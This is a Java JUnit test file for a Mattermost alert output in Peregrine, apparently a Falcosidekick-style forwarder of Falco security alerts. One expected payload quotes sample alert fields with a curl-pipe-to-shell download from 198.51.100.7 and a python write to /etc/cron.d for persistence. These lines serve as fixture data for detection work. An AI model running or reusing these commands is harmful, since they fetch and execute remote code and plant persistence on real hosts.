package dev.peregrine.sidekick.output.mattermost;

import static dev.peregrine.sidekick.testing.ConfiguredOutputs.bind;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.peregrine.sidekick.alert.Alert;
import dev.peregrine.sidekick.config.ConfigException;
import dev.peregrine.sidekick.delivery.ConfiguredOutput;
import dev.peregrine.sidekick.output.Chat;
import dev.peregrine.sidekick.output.DeliveryException;
import dev.peregrine.sidekick.output.Output;
import dev.peregrine.sidekick.output.OutputContext;
import dev.peregrine.sidekick.output.PayloadStyle;
import dev.peregrine.sidekick.testing.RecordingHttpServer;
import dev.peregrine.sidekick.testing.SampleAlerts;
import java.net.URI;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** The Mattermost output against a real HTTP endpoint on loopback, payloads checked field by field. */
class MattermostOutputTest {
    static final JsonMapper JSON = JsonMapper.builder().build();
    /** Peregrine's payloads; Falcosidekick's are the FalcosidekickPayloadTest's. */
    static final OutputContext CONTEXT =
            new OutputContext("mm", "peregrine.outputs.mm", PayloadStyle.PEREGRINE, Set.of());

    final RecordingHttpServer mattermost = new RecordingHttpServer();

    @AfterEach
    void stop() {
        mattermost.close();
    }

    MattermostConfig config(String outputFormat, String messageFormat) {
        return new MattermostConfig(
                mattermost.uri(),
                "security",
                "Peregrine",
                Chat.DEFAULT_ICON,
                "Peregrine",
                outputFormat,
                messageFormat,
                Duration.ofSeconds(5));
    }

    JsonNode post(MattermostConfig config, Alert alert) throws DeliveryException {
        try (Output out = config.create(CONTEXT)) {
            out.send(alert);
        }
        RecordingHttpServer.Request r = mattermost.requests().getLast();
        assertThat(r.method()).isEqualTo("POST");
        assertThat(r.path()).isEqualTo("/hook");
        assertThat(r.header("Content-Type")).isEqualTo("application/json");
        return JSON.readTree(r.body());
    }

    @Test
    void allFormatPostsFalcosidekicksMattermostMessage() throws Exception {
        JsonNode body = post(config("all", null), SampleAlerts.alert(2));

        ObjectNode expected = (ObjectNode) JSON.readTree("""
                {
                  "username": "Peregrine",
                  "icon_url": "https://raw.githubusercontent.com/falcosecurity/falcosidekick/master/imgs/falcosidekick_color.png",
                  "channel": "security",
                  "attachments": [{
                    "color": "#e20b0b",
                    "footer": "Peregrine",
                    "fields": [
                      {"title": "rule", "value": "Write below etc", "short": true},
                      {"title": "hostname", "value": "bastion-01", "short": true},
                      {"title": "priority", "value": "Error", "short": true},
                      {"title": "source", "value": "syscall", "short": true},
                      {"title": "tags", "value": "T1098, container, filesystem, host, maturity_sandbox, mitre_persistence", "short": true},
                      {"title": "container.id", "value": "host", "short": true},
                      {"title": "container.image.repository", "value": "", "short": true},
                      {"title": "container.image.tag", "value": "", "short": true},
                      {"title": "container.name", "value": "host", "short": true},
                      {"title": "evt.type", "value": "openat", "short": true},
                      {"title": "fd.name", "value": "/etc/cron.d/sysupdate", "short": true},
                      {"title": "proc.aname[2]", "value": "sh", "short": true},
                      {"title": "proc.aname[3]", "value": "sshd", "short": true},
                      {"title": "proc.aname[4]", "value": "sshd", "short": true},
                      {"title": "proc.cmdline", "value": "python3 -c open('/etc/cron.d/sysupdate','w').write(payload)", "short": false},
                      {"title": "proc.exepath", "value": "/usr/bin/python3.11", "short": true},
                      {"title": "proc.name", "value": "python3", "short": true},
                      {"title": "proc.pcmdline", "value": "sh -c curl -fsSL http://198.51.100.7/i.sh | sh", "short": false},
                      {"title": "proc.pname", "value": "sh", "short": true},
                      {"title": "user.name", "value": "root", "short": true},
                      {"title": "time", "value": "2025-11-20 10:02:11.734400921 +0000 UTC", "short": false}
                    ]
                  }]
                }
                """);
        ObjectNode attachment = (ObjectNode) expected.get("attachments").get(0);
        attachment.put("fallback", SampleAlerts.output(2));
        attachment.put("text", SampleAlerts.output(2));
        assertThat(body).isEqualTo(expected);
    }

    @Test
    void textFormatWithTemplateAndBlankSettings() throws Exception {
        MattermostConfig config = new MattermostConfig(
                mattermost.uri(),
                null,
                "",
                "",
                "Peregrine",
                "text",
                "{{ priority | emoji }} **{{ rule }}** on `{{ hostname }}`",
                Duration.ofSeconds(5));

        JsonNode body = post(config, SampleAlerts.alert(0));

        ObjectNode expected = (ObjectNode) JSON.readTree("""
                {"text": "\uD83D\uDD35 **Terminal shell in container** on `ip-10-0-1-23.eu-west-1.compute.internal`",
                 "attachments": [{"color": "#5bffb5"}]}
                """);
        ((ObjectNode) expected.get("attachments").get(0))
                .put("fallback", SampleAlerts.output(0))
                .put("text", SampleAlerts.output(0));
        assertThat(body).isEqualTo(expected);
    }

    @Test
    void fieldsFormatLeavesTheOutputLineOut() throws Exception {
        JsonNode attachment = post(config("fields", null), SampleAlerts.alert(3))
                .get("attachments")
                .get(0);

        assertThat(attachment.has("text")).isFalse();
        assertThat(attachment.get("fallback").stringValue()).isEqualTo(SampleAlerts.output(3));
        assertThat(attachment.get("fields").get(1).get("title").stringValue()).isEqualTo("hostname");
        assertThat(attachment
                        .get("fields")
                        .get(attachment.get("fields").size() - 1)
                        .get("value")
                        .stringValue())
                .isEqualTo("2025-11-20 11:45:09.00411883 +0000 UTC");
    }

    @Test
    void outageIsRetryableAndARefusalIsPermanent() throws Exception {
        try (Output out = config("all", null).create(CONTEXT)) {
            mattermost.answer(500);
            assertThatThrownBy(() -> out.send(SampleAlerts.alert(0)))
                    .isInstanceOfSatisfying(
                            DeliveryException.class,
                            e -> assertThat(e.retryable()).isTrue());
            mattermost.answer(400); // Mattermost: "Unable to parse incoming data" / channel locked
            assertThatThrownBy(() -> out.send(SampleAlerts.alert(0)))
                    .isInstanceOfSatisfying(
                            DeliveryException.class,
                            e -> assertThat(e.retryable()).isFalse());
            mattermost.answer(200);
            out.send(SampleAlerts.alert(0));
            assertThat(mattermost.requests()).hasSize(1);
        }
        URI nobody = mattermost.uri();
        mattermost.close();
        MattermostConfig down = new MattermostConfig(nobody, null, "", "", "", "all", null, Duration.ofSeconds(2));
        try (Output out = down.create(CONTEXT)) {
            assertThatThrownBy(() -> out.send(SampleAlerts.alert(0)))
                    .isInstanceOfSatisfying(
                            DeliveryException.class,
                            e -> assertThat(e.retryable()).isTrue());
        }
    }

    @Test
    void bindsFromKebabKeysWithDefaults() {
        List<ConfiguredOutput> outputs = bind(Map.of(
                "peregrine.outputs.mm.type", "mattermost",
                "peregrine.outputs.mm.webhook-url", "https://chat.example.com/hooks/xyz"));

        assertThat(outputs)
                .singleElement()
                .extracting(ConfiguredOutput::config)
                .isEqualTo(new MattermostConfig(
                        URI.create("https://chat.example.com/hooks/xyz"),
                        null,
                        null, // unset: Falcosidekick's or Peregrine's, by the payload style
                        Chat.DEFAULT_ICON,
                        null, // unset: Falcosidekick's or Peregrine's, by the payload style
                        "all",
                        null,
                        Duration.ofSeconds(10)));
    }

    @Test
    void configErrorsNameTheFullKey() {
        assertThatThrownBy(() -> bind(Map.of("peregrine.outputs.mm.type", "mattermost")))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems()).contains("peregrine.outputs.mm.webhook-url: must not be null"));
        assertThatThrownBy(() -> new MattermostConfig(
                                URI.create("chat.example.com/hooks/xyz"),
                                null,
                                "",
                                "",
                                "",
                                "all",
                                null,
                                Duration.ofSeconds(1))
                        .create(CONTEXT))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems())
                                .singleElement()
                                .asString()
                                .startsWith("peregrine.outputs.mm.webhook-url: must be an http or https URL"));
        assertThatThrownBy(() -> config("all", "{{ rule }}\n{% if tags %}").create(CONTEXT))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems())
                                .singleElement()
                                .asString()
                                .startsWith("peregrine.outputs.mm.message-format: template error at line 2: "));
    }
}
